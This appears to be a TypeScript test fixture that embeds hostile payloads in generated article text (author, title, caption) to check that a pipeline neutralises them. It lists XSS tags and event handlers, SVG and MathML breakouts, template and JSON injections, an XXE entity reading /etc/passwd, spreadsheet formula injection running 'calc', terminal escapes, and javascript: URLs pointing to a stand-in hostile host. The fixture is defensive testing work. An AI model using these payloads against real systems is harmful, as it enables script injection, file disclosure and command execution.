/** Words that are a program somewhere. `hijacked` is a function that the browser of the check listens to. */
import { textFile, type HostileKinds, type Making, type HostileThing } from '../thing.ts';

/** A payload stands in the title, a paragraph, a name, a quotation, the stated author and the caption of a picture. */
function everywhere(making: Making, payload: string): readonly HostileThing[] {
  const { prose } = making;
  return textFile(
    making,
    [
      `Author: ${payload}`,
      `Source: ${payload}`,
      `Title: ${payload} ${prose(1)}`,
      '',
      `${payload} ${prose(2)}`,
      '',
      `„${prose(1)} ${payload}“ säger Anna ${payload} Berg.`,
      '',
      `Foto: ${payload}/AFP`,
    ].join('\n'),
  );
}

/** One payload of a list for each file. */
function payloads(...all: readonly string[]): HostileKinds[string] {
  return (making) => everywhere(making, all[making.number % all.length] ?? '');
}

export const MARKUP_KINDS = {
  scripts: payloads(
    '<script>hijacked(1)</script>',
    '<ScRiPt src=//hostile.invalid/x.js></sCrIpT>',
    '<script\u0000>hijacked(2)</script>',
    '&lt;script&gt;hijacked(3)&lt;/script&gt;',
    '&#60;script&#62;hijacked(4)&#60;/script&#62;',
    '\uff1cscript\uff1ehijacked(5)\uff1c/script\uff1e',
    '<noscript><p title="</noscript><img src=x onerror=hijacked(6)>">',
  ),
  'event-handlers': payloads(
    '<img src=x onerror=hijacked(1)>',
    '"><body onload=hijacked(2)>',
    "' autofocus onfocus='hijacked(3)",
    '<details open ontoggle=hijacked(4)>',
    '<input autofocus onfocus=hijacked(5)>',
    '<iframe srcdoc="<script>parent.hijacked(6)</script>">',
    '<object data="javascript:hijacked(7)">',
    '<meta http-equiv=refresh content="0;url=javascript:hijacked(8)">',
    '<base href=//hostile.invalid/>',
  ),
  drawings: payloads(
    '<svg onload=hijacked(1)>',
    '<svg><script>hijacked(2)</script></svg>',
    '<svg><a xlink:href="javascript:hijacked(3)"><text y=9>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=hijacked(4)>',
    '<svg><foreignObject><iframe srcdoc="<script>top.hijacked(5)</script>">',
  ),
  'script-endings': payloads(
    '</script><script>hijacked(1)</script>',
    '</title><script>hijacked(2)</script>',
    '</textarea></style></template><script>hijacked(3)</script>',
    '<!--<script>',
    '--><script>hijacked(4)</script><!--',
    ']]><script>hijacked(5)</script><![CDATA[',
  ),
  'json-breakers': payloads(
    '"}],"@type":"Hijacked","x":[{"',
    '\\"</script><script>hijacked(1)//',
    '\u2028\u2029"};hijacked(2);//',
    '\\u003cscript\\u003e',
  ),
  templates: payloads(
    '${hijacked(1)}',
    '{{constructor.constructor("hijacked(2)")()}}',
    '<%= hijacked(3) %>',
    '#{hijacked(4)}',
    '`${hijacked(5)}`',
    '{%raw%}',
    '%s%n%x',
    "$& $1 $` $'",
  ),
  'xml-breakers': payloads(
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    ']]>',
    '<?xml version="1.1"?>',
    '&nbsp;&undefined;&#0;&#xD800;&#x1F;',
    '\u0001\u000b\ufffe',
  ),
  markdown: payloads(
    '[x](javascript:hijacked\\(1\\))',
    '![x](x"onerror="hijacked(2))',
    '<javascript:hijacked(3)>',
    '[x]: data:text/html,<script>',
    '```\n~~~\n| a |\n|-|',
    '[^1] [^1]: x',
  ),
  formulas: payloads(
    '=HYPERLINK("http://hostile.invalid","x")',
    '+cmd|"/C calc"!A0',
    '@SUM(1)',
    '-1+1',
    '\t=1',
    '","=1+1\n"',
  ),
  'terminal-escapes': payloads(
    '\u001b[2J\u001b[31m',
    '\u001b]0;hijacked\u0007',
    '\u009b31m',
    '\u001b]8;;http://hostile.invalid\u0007x',
    '\b\b\b\r',
  ),
  addresses: payloads(
    'javascript:hijacked(1)',
    'JaVaScRiPt:hijacked(2)',
    'java\tscript:hijacked(3)',
    'data:text/html,<script>hijacked(4)</script>',
    'http://user:word@hostile.invalid/',
    '//hostile.invalid/x.js',
    'http://hostile.invalid/"onmouseover="hijacked(5)',
    'file:///etc/passwd',
  ),
} satisfies HostileKinds;
